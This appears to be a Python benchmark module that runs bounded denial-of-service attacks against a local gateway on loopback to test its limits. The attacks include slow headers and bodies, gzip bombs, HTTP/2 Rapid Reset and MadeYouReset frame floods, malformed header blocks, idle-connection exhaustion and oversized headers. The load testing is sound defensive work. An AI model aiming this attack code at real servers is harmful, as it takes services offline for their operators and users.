"""One attacker of a gateway on loopback, as a process.

    python -m benchmarks.attackers NAME HTTP_PORT GRPC_PORT KEY PATH SECONDS

Each is bounded in connections and requests a second, and does what one limit is there for. Those that need a key have
one: an application's own client may be faulty. It prints how many requests or connections it made.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import resource
import socket
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from functools import partial

HOST = "127.0.0.1"
#: connections that are held open at once, requests a second of all connections, and bytes of a large header
HELD, RATE, HEADER_BYTES = 200, 200, 15_000
#: large bodies a second, and how large they would be
BODIES_RATE, BOMB_BYTES = 20, 80 * 1024 * 1024
IDLE = 3000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
HEADERS, RST_STREAM, WINDOW_UPDATE = 1, 3, 8
END_HEADERS = 4
LISTS = b'{"inputs":[{"name":"x","shape":[1,4],"datatype":"FP32","data":[' + b"[]," * 21_000 + b"[]]}]}"
#: POST, http, and a path that does not exist; each of them a field of its own
BLOCK = b"\x83\x86\x44\x05/none"


@dataclass
class Target:
    """A gateway, attacked until a moment; ``made``: requests or connections so far."""

    http: int
    grpc: int
    key: str
    path: str
    until: float
    made: int = 0

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.until

    async def pause(self, seconds: float) -> None:
        await asyncio.sleep(max(0.0, min(seconds, self.until - time.monotonic())))

    def head(self, length: int, *lines: str) -> bytes:
        fields = ["host: a", f"authorization: Bearer {self.key}", f"content-length: {length}", *lines]
        return "\r\n".join([f"POST {self.path} HTTP/1.1", *fields, "", ""]).encode()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload


async def _each(count: int, one: Callable[[Target], Awaitable[None]], target: Target) -> None:
    """Run ``count`` at once, each again when it has ended."""

    async def again() -> None:
        while not target.over:
            with contextlib.suppress(OSError, EOFError, asyncio.LimitOverrunError):
                await one(target)
            await target.pause(0.05)

    await asyncio.gather(*(again() for _ in range(count)))


async def _drip(target: Target, beginning: bytes) -> None:
    _, writer = await asyncio.open_connection(HOST, target.http)
    target.made += 1
    try:
        writer.write(beginning)
        while not target.over and not writer.is_closing():
            writer.write(b"x")
            await writer.drain()
            await target.pause(0.5)
    finally:
        writer.close()


async def _send(target: Target, data: bytes, each_s: float) -> None:
    """One request after the other on one connection, as long as it lasts."""
    reader, writer = await asyncio.open_connection(HOST, target.http)
    try:
        while not target.over:
            began = time.monotonic()
            writer.write(data)
            target.made += 1
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0]))
            await target.pause(each_s - (time.monotonic() - began))
            if b"connection: close" in head.lower():
                return
    finally:
        writer.close()


async def gzip_bombs(target: Target) -> None:
    began = time.monotonic()
    body = gzip.compress(bytes(BOMB_BYTES), compresslevel=1)
    # A busy machine takes longer to make the bomb than an attack lasts.
    target.until += time.monotonic() - began
    head = target.head(len(body), "content-encoding: gzip")
    await _each(4, lambda target: _send(target, head + body, 4 / BODIES_RATE), target)


async def _frames(target: Target, make: Callable[[int], bytes]) -> None:
    """Send frames of one stream after the other on one gRPC connection while it lasts."""
    reader, writer = await asyncio.open_connection(HOST, target.grpc)
    try:
        writer.write(PREFACE)
        for number in range(1, 1 << 30, 2):
            if target.over or writer.is_closing() or reader.at_eof():
                return
            writer.write(make(number))
            target.made += 1
            if number % 64 == 1:
                await writer.drain()
                # The server's frames are thrown away; they must not fill the socket.
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1 << 20), 0.001)
                await target.pause(32 / (5 * RATE))
    finally:
        writer.close()


def _reset(number: int) -> bytes:
    """A call that the client resets ("Rapid Reset"), or one that the server resets ("MadeYouReset")."""
    head = frame(HEADERS, END_HEADERS, number, BLOCK)
    by_client = frame(RST_STREAM, 0, number, bytes(4))
    return head + (by_client if number % 4 == 1 else frame(WINDOW_UPDATE, 0, number, bytes(4)))


def _malformed(number: int) -> bytes:
    """A header block of many fields that no request may have."""
    return frame(HEADERS, END_HEADERS, number, b"\x83\x86" + b"\x00\x01A\x01b" * 150)


async def idle_connections(target: Target) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    open_ = []
    for _ in range(min(IDLE, hard - 64)):
        end = socket.socket()
        end.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            end.connect((HOST, target.http))
        open_.append(end)
        target.made += 1
        if len(open_) % 50 == 0:
            await target.pause(0.05)
    while not target.over:
        await target.pause(1.0)
    for end in open_:
        end.close()


async def _unread(target: Target) -> None:
    end = socket.socket()
    end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    end.setblocking(False)
    loop = asyncio.get_running_loop()
    await loop.sock_connect(end, (HOST, target.http))
    try:
        while not target.over:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(
                    loop.sock_sendall(end, b"GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\n" * 8), 0.5
                )
                target.made += 8
            await target.pause(0.5)
    finally:
        end.close()


def _request(data: bytes) -> Callable[[Target], Awaitable[None]]:
    return partial(_each, 8, lambda target: _send(target, data, 8 / RATE))


def _frames_of(make: Callable[[int], bytes]) -> Callable[[Target], Awaitable[None]]:
    return partial(_each, 2, lambda target: _frames(target, make))


ATTACKERS: dict[str, Callable[[Target], Awaitable[None]]] = {
    # Byte by byte.
    "slow heads": partial(_each, HELD, lambda target: _drip(target, b"GET /health HTTP/1.1\r\nhost: a\r\nx: ")),
    "slow bodies": partial(_each, HELD, lambda target: _drip(target, target.head(60_000))),
    # As large as the signature permits, made of empty lists.
    "big json": partial(_each, 4, lambda target: _send(target, target.head(len(LISTS)) + LISTS, 4 / BODIES_RATE)),
    # Small bodies that would be large.
    "gzip bombs": gzip_bombs,
    "resets": _frames_of(_reset),
    "malformed heads": _request(b"no request\r\n\r\n"),
    "malformed streams": _frames_of(_malformed),
    # As many connections as may be opened, without a byte.
    "idle connections": idle_connections,
    # Of a large page.
    "unread answers": partial(_each, 50, _unread),
    # Just below the limit, without a key.
    "huge headers": _request(b"GET /v2 HTTP/1.1\r\nhost: a\r\nx: " + b"y" * HEADER_BYTES + b"\r\n\r\n"),
    "many fields": _request(b"GET /v2 HTTP/1.1\r\nhost: a\r\n" + b"x: y\r\n" * 2000 + b"\r\n"),
}


def main() -> None:
    name, http, grpc, key, path, seconds = sys.argv[1:]
    target = Target(int(http), int(grpc), key, path, time.monotonic() + float(seconds))
    asyncio.run(ATTACKERS[name](target))
    print(target.made)


if __name__ == "__main__":
    main()
